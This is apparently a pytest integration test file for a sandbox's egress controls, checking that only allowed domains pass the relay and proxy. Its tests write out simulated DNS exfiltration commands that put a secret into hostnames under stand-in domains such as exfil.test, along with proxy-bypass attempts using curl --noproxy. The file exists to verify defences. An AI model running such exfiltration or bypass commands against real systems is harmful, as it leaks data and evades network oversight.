"""Local mode's network in a real namespace: only allowed domains get through the relay and the
proxy, nothing has a route around them, and no exfiltration name reaches the upstream DNS."""

from __future__ import annotations

import asyncio
import os
import secrets
import shlex
import shutil
import tempfile
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from corral.local.net import RELAY_NAME, SANDBOX_NET_DIR, LocalNetwork
from corral.net.view import EgressEvent
from tests.conftest import LeakWatch
from tests.integration.fake_hosts import DNS_IP, ZONE
from tests.integration.fake_internet import FakeInternet

pytestmark = pytest.mark.integration

NOBODY = 65534
ALLOWED_IP = ZONE["allowed.test"]


def _skip_reason() -> str | None:
    if shutil.which("bwrap") is None:
        return "needs bubblewrap (apt-get install bubblewrap)"
    if shutil.which("curl") is None or shutil.which("getent") is None:
        return "needs curl and getent"
    return None


@dataclass
class Local:
    net: LocalNetwork
    events: list[EgressEvent]
    files: Path  # resolv.conf and the fake CA, readable by the sandbox's user
    user: str

    async def run(self, script: str, socket_dir: Path | None = None) -> tuple[int, str, str]:
        """``sh -c script`` behind the relay in a bwrap sandbox with a network namespace of its
        own (only ``lo``), as root or, through setpriv, as nobody (an unprivileged userns)."""
        if socket_dir is None:
            socket_dir = self.net.socket_dir
        wrapped = self.net.wrap(["sh", "-c", script])
        argv = [
            "bwrap",
            "--unshare-all",
            "--die-with-parent",
            "--ro-bind", "/", "/",
            "--dev", "/dev",
            "--proc", "/proc",
            "--tmpfs", "/run",
            "--ro-bind", str(socket_dir), SANDBOX_NET_DIR,
            # A resolver that would answer, if only it could be reached.
            "--ro-bind", str(self.files / "resolv.conf"), "/etc/resolv.conf",
            "--",
            *wrapped,
        ]  # fmt: skip
        if self.user == "nobody":
            ids = [f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups"]
            argv = ["setpriv", *ids, *argv]
        env = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C", **self.net.sandbox_env()}
        proc = await asyncio.create_subprocess_exec(
            *argv,
            env=env,
            stdin=asyncio.subprocess.DEVNULL,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
        out, err = await asyncio.wait_for(proc.communicate(), 120)
        assert proc.returncode is not None
        return proc.returncode, out.decode(errors="replace"), err.decode(errors="replace")

    def curl(self, *args: str) -> str:
        ca = str(self.files / "ca.pem")
        return shlex.join(["curl", "-sS", "-m", "20", "--cacert", ca, *args])


@pytest.fixture(params=["root", "nobody"])
async def local(
    request: pytest.FixtureRequest, fake_net: FakeInternet, no_leaks: LeakWatch
) -> AsyncIterator[Local]:
    why = _skip_reason()
    if why:
        pytest.skip(why)
    user = str(request.param)
    # As nobody: the directory and socket are given to nobody, and the relay runs on an
    # interpreter nobody can reach (this one may live in /root).
    owner = (NOBODY, NOBODY) if user == "nobody" else None
    # Outside pytest's base temp dir, which nobody cannot enter.
    top = Path(tempfile.mkdtemp(prefix="corral-local-net-"))
    try:
        if owner is not None:
            os.chown(top, *owner)
        (top / "resolv.conf").write_text(f"nameserver {DNS_IP}\n")
        (top / "ca.pem").write_text(fake_net.ca_pem)
        for name in ("resolv.conf", "ca.pem"):
            os.chmod(top / name, 0o644)
        events: list[EgressEvent] = []
        net = LocalNetwork(
            ["allowed.test", "*.allowed.test"],
            top / "run",
            dns_upstreams=[(DNS_IP, 53)],
            on_event=events.append,
            owner=owner,
        )
        async with net:
            yield Local(net, events, top, user)
        assert not (top / "run").exists() or not any((top / "run").iterdir())
    finally:
        shutil.rmtree(top)


async def _events(
    local: Local, count: int, match: Callable[[EgressEvent], bool]
) -> list[EgressEvent]:
    """The events ``match`` takes, once there are ``count`` (or after 5 s). The proxy logs a
    connection when it has wound it down, which can be just after the command has exited."""
    found: list[EgressEvent] = []
    for _ in range(100):
        found = [e for e in local.events if match(e)]
        if len(found) >= count:
            break
        await asyncio.sleep(0.05)
    return found


def _named(name: str) -> Callable[[EgressEvent], bool]:
    return lambda e: e.name == name


async def test_allowed_domain_over_https_and_http(local: Local) -> None:
    code, out, err = await local.run(
        f"{local.curl('https://allowed.test/')}; {local.curl('http://www.allowed.test/x')}"
    )
    assert code == 0, err
    assert f"hello from {ALLOWED_IP} host=allowed.test sni=allowed.test" in out
    assert "host=www.allowed.test" in out
    tls = await _events(local, 1, _named("allowed.test"))
    assert [(e.decision, e.port) for e in tls] == [("allow", 443)]
    assert tls[0].ip == ALLOWED_IP and tls[0].bytes_in > 0
    assert [(e.decision, e.port) for e in await _events(local, 1, _named("www.allowed.test"))] == [
        ("allow", 80)
    ]


async def test_other_domains_get_403_from_the_proxy(local: Local) -> None:
    _, out, err = await local.run(
        f"{local.curl('-o', '/dev/null', '-w', '%{http_code}', 'http://blocked.test/')}; echo;"
        f"{local.curl('https://blocked.test/')}; echo tls=$?;"
        f"{local.curl('-o', '/dev/null', '-w', '%{http_code}', f'http://{ALLOWED_IP}/')}"
    )
    assert out.splitlines() == ["403", "tls=56", "403"], err
    assert "CONNECT tunnel failed, response 403" in err
    denied = await _events(local, 2, _named("blocked.test"))
    assert [(e.decision, e.port) for e in denied] == [("deny", 80), ("deny", 443)]
    literal = await _events(local, 1, lambda e: e.ip == ALLOWED_IP and e.name is None)
    assert [e.decision for e in literal] == ["deny"]


async def test_no_route_around_the_proxy(local: Local) -> None:
    """Ignoring the proxy variables fails at once: the namespace has no route, not a filter."""
    _, out, err = await local.run(
        f"{local.curl('--noproxy', '*', f'http://{ALLOWED_IP}/')}; echo direct=$?;"
        f"{local.curl('--noproxy', '*', '--resolve', f'allowed.test:443:{ALLOWED_IP}', 'https://allowed.test/')};"
        " echo pinned=$?"
    )
    # 7: could not connect (ENETUNREACH), not 28 (a timeout waiting on a dropped packet).
    assert out.splitlines() == ["direct=7", "pinned=7"], err
    assert local.events == []


async def test_dns_exfiltration_never_reaches_the_upstream(
    local: Local, fake_net: FakeInternet
) -> None:
    secret = f"x{secrets.token_hex(8)}"
    _, out, err = await local.run(
        f"{local.curl('-o', '/dev/null', '-w', '%{http_code}', f'http://{secret}.blocked.test/')};"
        f" echo; {local.curl(f'https://{secret}.other.test/')}; echo connect=$?;"
        f" getent hosts {secret}.exfil.test; echo getent=$?;"
        f" {local.curl('--noproxy', '*', f'http://{secret}.exfil.test/')}; echo direct=$?;"
        # Last, a name that does reach the upstream: the proxy's own lookup of an allowed
        # name, recorded before it was answered, so every earlier query is recorded too.
        f" {local.curl('-o', '/dev/null', 'https://api.allowed.test/')}; echo control=$?"
    )
    # 2: getent's "not found"; 6: curl could not resolve (the nameserver has no route).
    assert out.splitlines() == ["403", "connect=56", "getent=2", "direct=6", "control=0"], err
    queries = fake_net.queries()
    assert "api.allowed.test" in queries
    assert not [q for q in queries if secret in q]
    tried = await _events(local, 1, lambda e: e.name is not None and secret in e.name)
    assert {e.decision for e in tried} == {"deny"}


async def test_exit_status_passes_through_and_the_relay_dies_with_the_command(
    local: Local,
) -> None:
    code, _, _ = await local.run("exit 3")
    assert code == 3
    code, _, err = await local.run("exec /nonexistent/cmd")
    assert code == 127, err
    # The command outlives a killed relay; networking just stops (fail closed).
    _, out, err = await local.run(
        "for p in $(ps -o pid=,comm= --ppid $$ | awk '$2 ~ /^python/ {print $1}'); do"
        " kill -9 $p;"
        # Until it has exited (a zombie: sh does not reap it), its listener closed with it.
        " while grep -qv '^[0-9]* ([^)]*) Z' /proc/$p/stat 2>/dev/null; do sleep 0.01; done;"
        " done;"
        f" {local.curl('https://allowed.test/')}; echo after=$?"
    )
    assert out.splitlines() == ["after=7"], err
    assert local.events == []


async def test_without_the_proxy_connections_fail_at_once(local: Local) -> None:
    """No socket behind the relay (local mode ended): each connection is reset, not left hanging."""
    empty = local.files / "empty"
    empty.mkdir()
    shutil.copy(local.net.socket_dir / RELAY_NAME, empty / RELAY_NAME)  # the relay, no socket
    os.chown(empty, *((NOBODY, NOBODY) if local.user == "nobody" else (0, 0)))
    _, out, err = await local.run(f"{local.curl('https://allowed.test/')}; echo rc=$?", empty)
    # The relay resets the connection at once: curl sees it either as a failed connect (7)
    # or where the CONNECT answer was due (56), as the reset and its connect check race.
    assert out.splitlines() in (["rc=7"], ["rc=56"]), err
    assert local.events == []
